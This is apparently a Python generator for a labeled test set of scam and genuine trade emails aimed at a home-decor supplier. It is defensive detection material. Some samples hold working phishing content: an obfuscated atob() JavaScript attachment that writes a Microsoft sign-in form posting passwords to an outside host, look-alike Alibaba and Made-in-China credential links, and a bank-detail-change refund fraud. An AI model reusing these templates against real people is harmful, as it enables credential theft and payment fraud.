                            kind="scam:phishing_html", language="zh", email="zhou.purchase@hk-sunrise-trading.com",
                            company="香港旭日贸易有限公司", country="HK", website="hk-sunrise-trading.com",
                            why="'RFQ' is an HTML attachment imitating the Tencent Exmail log-in, pre-filled with the seller's address, posting the password to an outside .top host; sent from a Vultr Tokyo VPS."))


@mail
def mizuho_js():
    rnd = random.Random(114)
    t = at(2026, 6, 11, 10, 14, 55, 9)
    v = dict(client={"helo": "WIN-Q3J7P1M2D4A", "rdns": None, "ip": "20.78.41.119"},
             hops=[f"from WIN-Q3J7P1M2D4A ([127.0.0.1]) by WIN-Q3J7P1M2D4A with Microsoft SMTPSVC(10.0.20348.1);\n\t {D(t, 0, tz(0))}"])
    body_txt = """ご担当者様

突然のご連絡失礼いたします。
株式会社みずほインテリアトレーディング 購買部の田中と申します。

現在、弊社取引先向けにフォトフレームおよび陶器の花瓶の調達を検討しております。
品番・数量・仕様をまとめた見積依頼書を添付いたしましたので、ご確認のうえ
単価（FOB）と納期をご回答いただけますでしょうか。

※添付ファイルはブラウザで開いてください。閲覧にはメールアカウントの認証が必要です。

お忙しいところ恐縮ですが、6月20日までにご返信いただけますと幸いです。
何卒よろしくお願い申し上げます。

----------------------------------------
株式会社みずほインテリアトレーディング
購買部　田中 健一
〒541-0053 大阪市中央区本町2-4-11
TEL 06-6271-5832
----------------------------------------
"""
    payload = """<html><head><meta charset="utf-8"><title>Microsoft 365</title></head><body style="font-family:'Segoe UI';background:#f2f2f2">
<div style="width:380px;margin:80px auto;background:#fff;padding:40px">
<div style="font-size:22px;font-weight:600">サインイン</div>
<p>見積依頼書_MIT-0611.xlsx を表示するには、メールアカウントで確認してください。</p>
<form action="https://office-docview-secure.com/auth/verify.php" method="POST">
<input name="login" value="sales@everbright-decor.cn" style="width:100%;padding:6px;margin:6px 0">
<input name="passwd" type="password" placeholder="パスワード" style="width:100%;padding:6px;margin:6px 0">
<input type="submit" value="サインイン" style="background:#0067b8;color:#fff;border:0;padding:8px 30px">
</form></div></body></html>"""
    b = base64.b64encode(payload.encode("utf-8")).decode()
    chunks = [b[i:i + 120] for i in range(0, len(b), 120)]
    js_arr = ",\n".join(f'"{c}"' for c in chunks)
    page = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>見積依頼書</title></head><body>
<script>
var _0x3a1f=[
{js_arr}
];
var _0xd=_0x3a1f.join("");
document.write(decodeURIComponent(escape(window["at"+"ob"](_0xd))));
</script>
<noscript>このドキュメントを表示するには JavaScript を有効にしてください。</noscript>
</body></html>
"""
    root = mixed(alt(text(body_txt, cte="b64"), html(para_html(body_txt, "outlook"), cte="b64"), bnd(rnd, "outlook")),
                 [attachment(page.encode(), "見積依頼書_MIT-0611.htm", "text/html", "outlook")], bnd(rnd, "outlook"))
    return dict(seed=114, rcpt="aliyun", t=t,
                from_=("田中 健一", "k.tanaka@mizuho-interior-trading.jp"),
                subject="【お見積りのお願い】フォトフレーム・花瓶 発注予定品",
                msgid=f"<{hexr(rnd, 16, True)}@WIN-Q3J7P1M2D4A>",
                mailer=[("X-Mailer", "Microsoft Outlook 16.0"), ("MIME-Version", "1.0")],
                envfrom="k.tanaka@mizuho-interior-trading.jp", **v,
                auth=dict(spf="none", dkim="none", dmarc="none"),
                body=root,
                label=label(expected_category="X", expected_buyer_type="unknown", is_genuine=False,
                            kind="scam:phishing_html_js", language="ja", email="k.tanaka@mizuho-interior-trading.jp",
                            company="株式会社みずほインテリアトレーディング", country="JP", website="mizuho-interior-trading.jp",
                            why="The 'quotation request' .htm hides a base64 payload behind atob() that writes a Microsoft sign-in form posting the password elsewhere; sent from an Azure VM without PTR."))


@mail
def interior_trade_zip():
    rnd = random.Random(115)
    t = at(2026, 4, 28, 12, 6, 40, 3)
    v = vps_side(rnd, t, "static.77.128.216.95.clients.your-server.de", "95.216.128.77",
                 "static.77.128.216.95.clients.your-server.de", origin="185.220.101.44", server_tz=2)
    body_txt = """Добрый день!

Меня зовут Алексей, я менеджер по закупкам ООО «ТД Интерьер-Трейд» (Санкт-Петербург).
Мы заинтересованы в поставке керамических ваз и ароматических свечей. Полная спецификация (артикулы, размеры, количество) во вложении.

Просим рассчитать стоимость на условиях FOB и указать сроки производства.
Архив защищён паролем: 2604

С уважением,
Громов Алексей
Менеджер ВЭД
ООО «ТД Интерьер-Трейд»
+7 (812) 409-17-63
"""
    inner = fake_pe("Spetsifikatsiya")
    z = zip_crypto("Спецификация_заказа_2604.pdf.exe", inner, "2604", rnd)
    root = mixed(text(body_txt, cte="b64"), [attachment(z, "Спецификация_заказа_2604.zip", "application/zip", "php")],
                 bnd(rnd, "thunderbird"))
    return dict(seed=115, rcpt="exmail", t=t,
                from_=("Громов Алексей", "a.gromov@interior-trade-spb.ru"),
                subject="Заявка на поставку / спецификация во вложении",
                msgid=f"<{hexr(rnd, 8)}-{hexr(rnd, 4)}-{hexr(rnd, 4)}-{hexr(rnd, 4)}-{hexr(rnd, 12)}@interior-trade-spb.ru>",
                mailer=[("User-Agent", "Mozilla Thunderbird"), ("Content-Language", "ru"), ("MIME-Version", "1.0")],
                envfrom="a.gromov@interior-trade-spb.ru", **v,
                auth=dict(spf="softfail", dkim="none", dmarc="none"),
                body=root,
                label=label(expected_category="X", expected_buyer_type="unknown", is_genuine=False,
                            kind="scam:malware_archive", language="ru", email="a.gromov@interior-trade-spb.ru",
                            company="ООО «ТД Интерьер-Трейд»", country="RU", website="interior-trade-spb.ru",
                            why="Password-protected ZIP (password in the body) holding 'Спецификация...pdf.exe'; Hetzner server, submitted from a Tor exit address."))


@mail
def yildiz_img():
    rnd = random.Random(116)
    t = at(2026, 2, 10, 9, 48, 26, 3)
    v = vps_side(rnd, t, "vmi1750388.contaboserver.net", "161.97.171.12", "vmi1750388.contaboserver.net",
                 origin="161.97.171.12", server_tz=1)
    body_txt = """Merhaba,

Firmamız için hazırladığımız sipariş listesini ekte gönderiyoruz (vazo, mum ve yapay çiçek ürünleri). Dosya boyutu büyük olduğu için disk görüntüsü (.img) olarak gönderdik, açmak için çift tıklamanız yeterli.

Listeyi inceleyip fiyatlarınızı ve proforma faturanızı en kısa sürede iletmenizi rica ederiz. Ödemeyi proforma onayından hemen sonra yapacağız.

Saygılarımızla,
Murat Yıldız
Satın Alma Müdürü
Yıldız Dekor İthalat ve Dış Ticaret Ltd. Şti.
"""
    img = b"\x00" * 32 + b"\x01CD001\x01\x00" + b"SIPARIS_LISTESI".ljust(32, b" ") + b"[holdout5 placeholder image - harmless]\n"
    root = mixed(alt(text(body_txt), html(para_html(body_txt, "outlook")), bnd(rnd, "outlook")),
                 [attachment(img, "SIPARIS_LISTESI_YLDZ-2026-041.img", "application/octet-stream", "outlook")], bnd(rnd, "outlook"))
    return dict(seed=116, rcpt="own", t=t,
                from_=("Murat Yıldız", "murat@yildizdekor-ithalat.com"),
                subject="Sipariş Listesi - Proforma Talebi",
                msgid=f"<{hexr(rnd, 12, True)}{hexr(rnd, 8, True)}@yildizdekor-ithalat.com>",
                mailer=[("X-Mailer", "Microsoft Outlook 16.0"), ("Content-Language", "tr"), ("MIME-Version", "1.0")],
                envfrom="murat@yildizdekor-ithalat.com", **v,
                auth=dict(spf="pass", dkim="none", dmarc="none"),
                body=root,
                label=label(expected_category="X", expected_buyer_type="unknown", is_genuine=False,
                            kind="scam:malware_disk_image", language="tr", email="murat@yildizdekor-ithalat.com",
                            company="Yıldız Dekor İthalat ve Dış Ticaret Ltd. Şti.", country="TR", website="yildizdekor-ithalat.com",
                            why="'Order list' delivered as a .img disk image to double-click; no product detail in the text; Contabo VPS."))


@mail
def minhphat_scr():
    rnd = random.Random(117)
    t = at(2026, 7, 22, 16, 35, 9, 7)
    v = vps_side(rnd, t, "ip-172-31-27-114.ap-southeast-1.compute.internal", "13.212.147.88",
                 "ec2-13-212-147-88.ap-southeast-1.compute.amazonaws.com", origin="113.185.44.72", server_tz=0)
    body_txt = """Kính gửi Quý công ty,

Công ty TNHH Thương mại Minh Phát xin thông báo chúng tôi đã chuyển khoản tiền đặt cọc 30% cho đơn hàng bình gốm và nến thơm theo hóa đơn proforma của Quý công ty.

Vui lòng xem bản sao điện chuyển tiền SWIFT (MT103) đính kèm và xác nhận với ngân hàng của Quý công ty. Tiền sẽ về tài khoản trong vòng 1-2 ngày làm việc.

Dear Sir, we already paid 30% deposit, pls check attached swift copy and arrange production asap.

Trân trọng,
Nguyễn Thị Thu Hà
Kế toán trưởng
Công ty TNHH Thương mại Minh Phát
Quận 7, TP. Hồ Chí Minh
"""
    z = zip_plain([("SWIFT_COPY_MT103_VCB_20260722.scr", fake_pe("swift"))], when=(2026, 7, 22, 16, 20, 0))
    root = mixed(text(body_txt, cte="b64"), [attachment(z, "SWIFT_MT103_VCB_20260722.zip", "application/x-zip-compressed", "php")],
                 bnd(rnd, "other"))
    return dict(seed=117, rcpt="exmail", t=t,
                from_=("Phòng Kế toán - Minh Phát", "ketoan@minhphattrading.com"),
                subject="Thông báo thanh toán đặt cọc 30% - Bản sao điện SWIFT / Payment copy",
                msgid=f"<{hexr(rnd, 20)}@minhphattrading.com>",
                mailer=[("X-Mailer", "Microsoft Outlook Express 6.00.2900.5512"), ("MIME-Version", "1.0")],
                envfrom="ketoan@minhphattrading.com", **v,
                auth=dict(spf="softfail", dkim="none", dmarc="none"),
                body=root,
                label=label(expected_category="X", expected_buyer_type="unknown", is_genuine=False,
                            kind="scam:fake_payment_copy_malware", language="vi", email="ketoan@minhphattrading.com",
                            company="Công ty TNHH Thương mại Minh Phát", country="VN", website="minhphattrading.com",
                            why="'Deposit paid, see SWIFT copy' for an order that was never placed; the ZIP holds a .scr screensaver executable; sent from an AWS EC2 instance."))


@mail
def alibaba_notice():
    rnd = random.Random(118)
    t = at(2026, 8, 30, 21, 12, 47, 8)
    v = vps_side(rnd, t, "localhost", "139.162.92.187", "139-162-92-187.ip.linodeusercontent.com")
    link = "https://passport.alibaba.com.ipr-appeal.top/login?case=IPR-2026-0830-77412"
    page = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f5f5f5;font-family:'PingFang SC','Microsoft YaHei',Arial">
<table width="640" align="center" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="background:#ff6a00;padding:14px 24px;color:#fff;font-size:20px;font-weight:bold">Alibaba.com 阿里巴巴国际站</td></tr>
<tr><td style="padding:24px;font-size:14px;line-height:1.8;color:#333">
<p>尊敬的阿里巴巴国际站会员：</p>
<p>您好！系统检测到您店铺（Ningbo Everbright Home Decor Co., Ltd.）近期发布的多款商品（陶瓷花瓶、香薰蜡烛）被权利人投诉涉嫌侵犯知识产权，投诉编号：<b>IPR-2026-0830-77412</b>。</p>
<p>根据《阿里巴巴国际站知识产权规则》，若您未在 <b style="color:#e4393c">24小时</b> 内提交申诉材料，平台将对您的店铺执行冻结处理，已发布商品全部下架，并暂停信用保障订单放款。</p>
<p style="text-align:center;margin:26px 0"><a href="{link}" style="background:#ff6a00;color:#fff;padding:11px 36px;text-decoration:none;border-radius:3px">立即登录申诉</a></p>
<p style="color:#999;font-size:12px">此邮件由系统自动发送，请勿直接回复。如有疑问请联系您的客户经理。<br>阿里巴巴国际站 规则中心</p>
</td></tr></table></body></html>
"""
    root = html(page, cte="b64")
    return dict(seed=118, rcpt="aliyun", t=t,
                from_=("阿里巴巴国际站", "noreply@notice.alibaba.com"),
                subject="【紧急】您的国际站店铺涉嫌知识产权违规，将于24小时内被冻结",
                msgid=f"<{alnum(rnd, 28)}@localhost>",
                mailer=[("X-Mailer", "PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"), ("MIME-Version", "1.0")],
                envfrom="www-data@localhost", **v,
                auth=dict(spf="none", dkim="none", dmarc="fail", dmarc_policy="p=REJECT sp=REJECT dis=NONE"),
                body=root,
                label=label(expected_category="X", expected_buyer_type="unknown", is_genuine=False,
                            kind="scam:fake_platform_notice", language="zh", email="noreply@notice.alibaba.com",
                            company="阿里巴巴国际站", country="CN", website="alibaba.com",
                            why="Fake Alibaba.com IPR-complaint notice with a 24-hour freeze threat; the 'appeal' button leads to passport.alibaba.com.ipr-appeal.top; sent by a PHP script on a Linode host."))


@mail
def mic_notice():
    rnd = random.Random(119)
    t = at(2026, 10, 21, 3, 40, 16, 0)
    v = vps_side(rnd, t, "mail.mic-buyermessage.com", "164.90.212.55", None)
    link = "https://made-in-china.com.buyer-message.center/login?ref=inq3&m=sales%40ningbo-homedecor.cn"
    page = f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>Made-in-China.com</title></head>
<body style="font-family:Arial,Helvetica,sans-serif;background:#f4f4f4;margin:0">
<div style="max-width:620px;margin:0 auto;background:#fff">
<div style="background:#c4161c;color:#fff;padding:16px 22px;font-size:19px;font-weight:bold">Made-in-China.com</div>
<div style="padding:22px;font-size:14px;color:#333;line-height:1.6">
<p>Dear Supplier,</p>
<p>You have <b>3 new inquiries</b> from verified buyers waiting in your Message Center:</p>
<table cellpadding="6" style="border-collapse:collapse;font-size:13px;width:100%">
<tr style="background:#f0f0f0"><td>United States</td><td>Ceramic Vase - Qty 12,000 pcs</td></tr>
<tr><td>Germany</td><td>Scented Candle Gift Set - Qty 8,000 sets</td></tr>
<tr style="background:#f0f0f0"><td>United Arab Emirates</td><td>Artificial Flower Arrangement - Qty 5,000 pcs</td></tr>
</table>
<p>Inquiries not answered within <b>48 hours</b> will be reassigned to other suppliers in your category.</p>
<p style="text-align:center"><a href="{link}" style="display:inline-block;background:#c4161c;color:#fff;padding:10px 30px;text-decoration:none">View Inquiries</a></p>
<p style="font-size:11px;color:#888">Focus Technology Co., Ltd. | This is an automatically generated message. <a href="{link}&unsub=1" style="color:#888">Unsubscribe</a></p>
</div></div></body></html>
"""
    root = html(page)
    return dict(seed=119, rcpt="own", t=t,
                from_=("Made-in-China.com", "service@made-in-china.com"),
                subject="You have 3 new buyer inquiries waiting (reply within 48 hours)",
                msgid=f"<{hexr(rnd, 24)}@mic-buyermessage.com>",
                mailer=[("X-Mailer", "Sendy"), ("List-Unsubscribe", f"<{link}&unsub=1>"), ("MIME-Version", "1.0")],
                envfrom="bounce@mic-buyermessage.com", **v,
                dkim=("mic-buyermessage.com", "s1"),
                auth=dict(spf="pass", dkim="pass", dmarc="fail", dmarc_policy="p=QUARANTINE sp=QUARANTINE dis=NONE"),
                body=root,
                label=label(expected_category="X", expected_buyer_type="unknown", is_genuine=False,
                            kind="scam:fake_platform_notice", language="en", email="service@made-in-china.com",
                            company="Made-in-China.com", country="CN", website="made-in-china.com",
                            why="Made-in-China.com look-alike inquiry notice: SPF/DKIM pass only for the sender's own bounce domain, DMARC fails for made-in-china.com; 'View Inquiries' goes to a credential page on buyer-message.center; DigitalOcean Frankfurt IP."))


@mail
def dekorhome_refund():
    rnd = random.Random(120)
    t = at(2026, 7, 8, 13, 58, 31, 2)
    v = vps_side(rnd, t, "mail.dekorhome-pl.com", "5.75.231.148", "static.148.231.75.5.clients.your-server.de",
                 origin="31.0.56.209", server_tz=2)
    body_txt = """Dzień dobry Pani Lily,

w nawiązaniu do naszej korespondencji: nasz dział księgowości omyłkowo zlecił dwukrotnie płatność za proformę PI-EB260311 (USD 8 460,00). Potwierdzenie obu przelewów mamy w systemie.

Prosimy o zwrot nadpłaconej kwoty. Uwaga - od 1 lipca zmieniliśmy bank obsługujący płatności zagraniczne, dlatego zwrot prosimy przelać wyłącznie na nowy rachunek podany w załączonym piśmie. Stary rachunek w PKO BP jest już zamknięty i przelew zostanie odrzucony.

Prosimy o potwierdzenie daty zwrotu.

Pozdrawiam serdecznie
Katarzyna Nowicka
Dział Zakupów / Księgowość
Dekor-Home Hurt Sp. z o.o.
ul. Przemysłowa 14, 62-023 Gądki

W dniu 11.03.2026 o 09:42, Lily Chen <info@ningbo-homedecor.cn> pisze:
> Dear Katarzyna,
> Attached please find PI-EB260311 for the artificial flower reorder.
> Balance USD 8,460.00 before loading, please arrange.
> Best regards, Lily
"""
    pdf = pdf_doc("Zawiadomienie o zmianie rachunku bankowego", [
        "Dekor-Home Hurt Sp. z o.o., ul. Przemysłowa 14, 62-023 Gądki, NIP 7773241196",
        "Szanowni Państwo, informujemy, że od dnia 1 lipca 2026 r. wszystkie płatności i zwroty w walutach obcych "
        "prosimy kierować wyłącznie na poniższy rachunek. Poprzedni rachunek w PKO BP został zamknięty.",
        "Beneficjent: Dekor-Home Hurt Sp. z o.o.\nBank: UAB Finvia Payments, Vilnius, Litwa\nIBAN: LT47 3250 0319 2284 6651\nSWIFT/BIC: FNVALT22XXX\nTytuł: zwrot nadpłaty PI-EB260311",
        "Z poważaniem,\nKatarzyna Nowicka, Księgowość",
    ], unicode=True, creator="Microsoft Word", producer="Microsoft: Print To PDF")
    root = mixed(text(body_txt, flowed=True), [attachment(pdf, "Zmiana_rachunku_bankowego_Dekor-Home.pdf", "application/pdf", "php")],
                 bnd(rnd, "thunderbird"))
    return dict(seed=120, rcpt="exmail", t=t,
                from_=("Katarzyna Nowicka", "k.nowicka@dekorhome-pl.com"),
                subject="RE: Proforma PI-EB260311 - zwrot nadpłaty / nowy rachunek bankowy",
                msgid=f"<{hexr(rnd, 8)}-{hexr(rnd, 4)}-{hexr(rnd, 4)}-{hexr(rnd, 4)}-{hexr(rnd, 12)}@dekorhome-pl.com>",
                thread=[("In-Reply-To", f"<{hexr(rnd, 20)}@ningbo-homedecor.cn>"), ("References", f"<{hexr(rnd, 20)}@ningbo-homedecor.cn>")],
                mailer=[("User-Agent", "Mozilla Thunderbird"), ("Content-Language", "pl"), ("MIME-Version", "1.0")],
                envfrom="k.nowicka@dekorhome-pl.com", **v,
                dkim=("dekorhome-pl.com", "default"),
                auth=dict(spf="pass", dkim="pass", dmarc="pass", dmarc_policy="p=NONE dis=NONE"),
                body=root,
                label=label(expected_category="X", expected_buyer_type="unknown", is_genuine=False,
                            kind="scam:payment_change_refund", language="pl", email="k.nowicka@dekorhome-pl.com",
                            company="Dekor-Home Hurt Sp. z o.o.", country="PL", website="dekorhome-pl.com",
                            why="'Customer' claims a double payment and asks for a refund to a new Lithuanian EMI account; the quoted thread was with a different domain, this one is a look-alike on Hetzner with its own SPF/DKIM."))


@mail
def expoguia():
    rnd = random.Random(121)
    t = at(2026, 11, 4, 9, 30, 12, -6)
    v = vps_side(rnd, t, "vps-7c1d0e52.vps.ovh.net", "141.94.203.66", "vps-7c1d0e52.vps.ovh.net")
    body_txt = """Estimados señores:

Con motivo de la próxima edición de la Guía Internacional de Expositores de Ferias de Decoración y Regalo 2026/2027 (Canton Fair, Ambiente, Maison&Objet, Spring Fair) les rogamos que verifiquen los datos de su empresa que figuran en el formulario adjunto.

La actualización de la entrada básica es gratuita. Por favor, corrijan los datos si es necesario, firmen el formulario y envíennoslo por correo electrónico en un plazo de 10 días.

Si sus datos no han cambiado, también es necesario que nos devuelvan el formulario firmado para confirmar la publicación.

Atentamente,
Departamento de Actualización
Expo Guía Internacional S. de R.L. de C.V.
Av. Insurgentes Sur 1605, Piso 9, Ciudad de México
"""
    pdf = pdf_doc("GUÍA INTERNACIONAL DE EXPOSITORES 2026/2027 - FORMULARIO DE ACTUALIZACIÓN", [
        "Empresa: Ningbo Everbright Home Decor Co., Ltd.\nDirección: Ningbo, Zhejiang, China\nSector: Decoración del hogar / Artículos de regalo\n"
        "Persona de contacto: ______________________\nTeléfono: ______________________\nCorreo: ______________________",
        "Fecha, sello y firma: ______________________",
    ], small="Condiciones: Con la firma del presente formulario, el firmante encarga la publicación de la entrada ampliada de su empresa en la "
             "Guía Internacional de Expositores (edición impresa y en línea) por un período mínimo de tres años, al precio de 1.271 EUR "
             "por año más IVA, pagadero por adelantado. El contrato se renueva automáticamente por un año si no se cancela por escrito "
             "tres meses antes de su vencimiento. Jurisdicción: Ciudad de México.")
    root = mixed(alt(text(body_txt), html(para_html(body_txt, "plain")), bnd(rnd, "other")),
                 [attachment(pdf, "Formulario_Actualizacion_2026-2027.pdf", "application/pdf", "php")], bnd(rnd, "other"))
    return dict(seed=121, rcpt="aliyun", t=t,
                from_=("Expo Guía Internacional", "actualizacion@expoguia-internacional.com"),
                subject="Actualización de sus datos de expositor 2026/2027 - Ningbo Everbright Home Decor",
                msgid=f"<{hexr(rnd, 32)}@expoguia-internacional.com>",
                mailer=[("X-Mailer", "MailWizz Mailer"), ("Precedence", "bulk"), ("MIME-Version", "1.0")],
                envfrom="bounces@expoguia-internacional.com", **v,
                dkim=("expoguia-internacional.com", "mw"),
                auth=dict(spf="pass", dkim="pass", dmarc="pass", dmarc_policy="p=NONE dis=NONE"),
                body=root,
                label=label(expected_category="X", expected_buyer_type="unknown", is_genuine=False,
                            kind="spam:directory_listing", language="es", email="actualizacion@expoguia-internacional.com",
                            company="Expo Guía Internacional S. de R.L. de C.V.", country="MX", website="expoguia-internacional.com",
                            why="'Free update' of a trade-fair exhibitor directory; the small print of the form is a 3-year contract at EUR 1,271 a year."))


@mail
def domain_reg():
    rnd = random.Random(122)
    t = at(2026, 9, 3, 10, 16, 58, 8)
    v = vps_side(rnd, t, "iZuf6d2k8w0x1pmaq3c5v7Z", "139.196.77.18", origin="180.169.22.41", server_tz=8)
    body_txt = """（此邮件请转交贵公司总经理或商标负责人，如有打扰请谅解。）

尊敬的总经理：您好！

我司是一家专业的国际域名注册及网络品牌保护机构。我们于2026年9月2日收到“宁波锦瑞商贸有限公司”的申请，该公司申请注册“everbright”作为其网络品牌，并同时申请注册以下国际域名：

everbright.asia
everbright.cn
everbright.com.cn
everbright.hk
everbright.net.cn
everbright.tw

经我中心审核，发现上述名称与贵公司的企业名称及域名相同或近似。由于此事涉及贵司的知识产权，为避免日后产生纠纷，我们暂时冻结了该申请。请贵司在5个工作日内回复确认：
1. 贵司是否授权“宁波锦瑞商贸有限公司”注册上述名称；
2. 如未授权，贵司是否需要优先注册。

逾期未回复，我中心将视为贵司放弃，届时将依法批准对方的申请。

顺祝商祺！

刘伟 | 审核部
上海中冠网络科技有限公司
电话：021-6089 3374 转 8016
手机：139 1824 7753
地址：上海市闵行区虹梅南路2588号
"""
    root = text(body_txt, charset="gb2312", cte="b64")
    return dict(seed=122, rcpt="exmail", t=t, hcharset="gb2312",
                from_=("刘伟", "liuwei@zgwl-domainreg.cn"),
                subject="关于“everbright”网络品牌及域名注册的确认函（请转交贵司负责人）",
                msgid=f"<{t.strftime('%Y%m%d%H%M%S')}{rnd.randint(100000, 999999)}{rnd.randint(10, 99)}@zgwl-domainreg.cn>",
                mailer=[("X-Mailer", "Foxmail 7.2.25.254[cn]"), ("MIME-Version", "1.0")],
                envfrom="liuwei@zgwl-domainreg.cn", **v,
                auth=dict(spf="pass", dkim="none", dmarc="none"),
                body=root,
                label=label(expected_category="X", expected_buyer_type="unknown", is_genuine=False,
                            kind="scam:domain_registration", language="zh", email="liuwei@zgwl-domainreg.cn",
                            company="上海中冠网络科技有限公司", country="CN", website="zgwl-domainreg.cn",
                            why="Classic Chinese domain/brand-registration pressure mail: a 'third party' wants to register 'everbright' domains unless the seller pays to register them first; not an inquiry."))


# ============================================================================= GENUINE (.eml)


def workspace(rnd, t, domain, sel="google"):
    g = gmail_side(rnd, t, workspace=True)
    return g, (domain, sel, ["mime-version", "from", "date", "message-id", "subject", "to", "content-type"])


@mail
def harbor_pine():
    rnd = random.Random(201)
    t = at(2026, 2, 18, 14, 22, 9, -5)
    g, dk = workspace(rnd, t, "harborandpinehome.com")
    body_txt = """Hi there,

We met your colleague Vivian briefly at the Canton Fair last October (phase 2, candles hall) and I've finally got a brief together for our Fall 2026 home fragrance program. Harbor & Pine has 38 stores across New England and the Mid-Atlantic plus our web shop, and this would be a private-label line under our own "Harbor & Pine" name.

What we need quoted (full spec sheet attached):

- 8 oz single-wick soy blend jar candle, amber glass, FSC birch lid - 4 scents x 6,000 = 24,000 pcs
- 14 oz double-wick, same jar family - 4 scents x 3,500 = 14,000 pcs
- 21 oz 3-wick, tin lid - 2 scents x 2,000 = 4,000 pcs

Scents: Cider & Clove, Cedar Smoke, Pumpkin Chai, Sea Salt Birch (we'll share our fragrance briefs; open to your house oils if close). Fragrance load 8-10%, cotton or wood wick.

Compliance: ASTM F2417 (fire safety) and ASTM F2058 warning labels, Prop 65 review of the fragrance. Please confirm you can provide third-party test reports (SGS/Intertek/BV all fine). A current BSCI audit is required by our compliance team.

Packaging: individual white box with our printed sleeve, 6 pcs per master carton, ISTA 3A.

Target FOB Ningbo: $2.10 / $3.40 / $5.80. Terms: 30% deposit, 70% against copy of B/L. Cargo ready by July 25 for arrival at Port Newark in time for a Sept 1 floor set.

Could you send your quotation and lead time by March 6? If pricing works we'd want 2 pre-production samples per scent.

Thanks,
Megan

--
Megan O'Rourke
Senior Buyer, Home Fragrance & Seasonal
Harbor & Pine Home, Inc.
41 Commerce Way, Woburn, MA 01801
o. 781-932-4410 | m. 617-294-0871
harborandpinehome.com
"""
    sheet = xlsx([
        ["Harbor & Pine Home - Fall 2026 Home Fragrance - RFQ spec sheet", "", "", "", "", "", ""],
        ["SKU", "Description", "Vessel", "Wax / wick", "Scents", "Qty per scent", "Target FOB USD"],
        ["HP-C08", "8 oz single-wick jar candle", "Amber glass 8oz, FSC birch lid", "Soy blend / cotton", 4, 6000, 2.10],
        ["HP-C14", "14 oz double-wick jar candle", "Amber glass 14oz, FSC birch lid", "Soy blend / cotton x2", 4, 3500, 3.40],
        ["HP-C21", "21 oz 3-wick candle", "Amber glass 21oz, tin lid", "Soy blend / wood x3", 2, 2000, 5.80],
        ["", "", "", "", "", "", ""],
        ["Compliance", "ASTM F2417, ASTM F2058 label, Prop 65, BSCI audit", "", "", "", "", ""],
        ["Packing", "Individual box + sleeve, 6 pcs/master carton, ISTA 3A", "", "", "", "", ""],
        ["Terms", "FOB Ningbo, 30% deposit / 70% vs B/L copy, cargo ready 2026-07-25", "", "", "", "", ""],
    ], sheet="RFQ", creator="Megan O'Rourke")
    root = mixed(alt(text(body_txt), html(para_html(body_txt, "gmail")), bnd(rnd, "gmail")),
                 [attachment(sheet, "HP_Fall26_Candle_RFQ_Spec.xlsx",
                             "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "gmail", rnd)],
                 bnd(rnd, "gmail"))
    return dict(seed=201, rcpt="exmail", t=t,
                from_=("Megan O'Rourke", "megan.orourke@harborandpinehome.com"),
                subject="RFQ - Fall '26 soy jar candles (private label) - Harbor & Pine Home",
                msgid=g["msgid"], mailer=[("MIME-Version", "1.0")],
                envfrom="megan.orourke@harborandpinehome.com", client=g["client"], hops=g["hops"], pre=g["pre"], dkim=dk,
                auth=dict(spf="pass", dkim="pass", dmarc="pass", dmarc_policy="p=QUARANTINE sp=QUARANTINE dis=NONE"),
                body=root,
                label=label(expected_category="A", expected_buyer_type="chain", is_genuine=True, kind="specific",
                            language="en", email="megan.orourke@harborandpinehome.com", company="Harbor & Pine Home, Inc.",
                            country="US", website="harborandpinehome.com",
                            why="38-store US chain, private-label candle RFQ with SKUs, quantities, compliance, target FOB, normal 30/70 terms and dates; Workspace mail, all auth pass."))


@mail
def lindqvist():
    rnd = random.Random(202)
    t = at(2026, 4, 22, 15, 7, 51, 2)
    ms = m365_side(rnd, t, "eur")
    body_txt = """Sehr geehrte Frau Chen,

vielen Dank für das freundliche Telefonat letzte Woche. Wie besprochen sende ich Ihnen unsere Anfrage für die Vasenserie der Kollektion Frühjahr/Sommer 2027 unserer Eigenmarke NORDHAVN living.

Artikel (Zeichnungen und Maße siehe PDF im Anhang):
- NH-V01 Flaschenvase, H 28 cm, Ø 11 cm
- NH-V02 Bauchige Vase, H 22 cm, Ø 18 cm
- NH-V03 Zylindervase, H 30 cm, Ø 12 cm
- NH-V04 Schalenvase, H 9 cm, Ø 24 cm

Oberfläche: matte Reaktivglasur, innen glasiert und wasserdicht, 3 Farben (Salbei, Sand, Rauchblau nach Pantone-Vorgabe).
Menge: je Modell und Farbe 1.800 Stück, gesamt 21.600 Stück.
Verpackung: Einzelkarton braun mit Etikett (EAN liefern wir), Umkarton à 6 Stück, Falltest nach ISTA 1A.
Qualitätskontrolle: AQL 2.5 durch unseren Prüfdienstleister vor Verschiffung.

Lieferbedingung FOB Ningbo, Verschiffung KW 44/2026. Zahlung 30 % Anzahlung, 70 % gegen B/L-Kopie.
Bitte bestätigen Sie, dass Ihr BSCI-Audit (mind. Rating C) gültig ist - das ist bei uns Voraussetzung für die Listung.

Unsere Zielpreise liegen zwischen 2,40 und 4,10 USD je nach Modell. Über Ihr Angebot bis zum 15. Mai würde ich mich freuen, gerne mit Angabe der Musterkosten (je 2 Stück pro Farbe).

Mit freundlichen Grüßen
Svenja Albers
Einkauf / Produktentwicklung

Lindqvist & Brandt Wohnaccessoires GmbH
Stresemannstraße 375 · 22761 Hamburg
Tel. +49 40 8537 226-14
www.lindqvist-brandt.de
Geschäftsführer: Jan Lindqvist, Katrin Brandt · Amtsgericht Hamburg HRB 141802
"""
    pdf = pdf_doc("NORDHAVN living - Vasen SS27 - Spezifikation / Anfrage", [
        "Lindqvist & Brandt Wohnaccessoires GmbH, Hamburg. Ansprechpartnerin: Svenja Albers. Stand: 20.04.2026.",
        "Glasur: matte Reaktivglasur, innen glasiert (wasserdicht, 24 h Test). Farben: Salbei (Pantone 5625 C), Sand (Pantone 7527 C), "
        "Rauchblau (Pantone 5425 C). Boden unglasiert mit Filzpunkten.",
    ], table=[["Art.-Nr.", "Form", "Höhe", "Ø", "Menge/Farbe", "Zielpreis FOB"],
              ["NH-V01", "Flaschenvase", "28 cm", "11 cm", "1.800", "2,40 USD"],
              ["NH-V02", "Bauchige Vase", "22 cm", "18 cm", "1.800", "3,60 USD"],
              ["NH-V03", "Zylindervase", "30 cm", "12 cm", "1.800", "3,20 USD"],
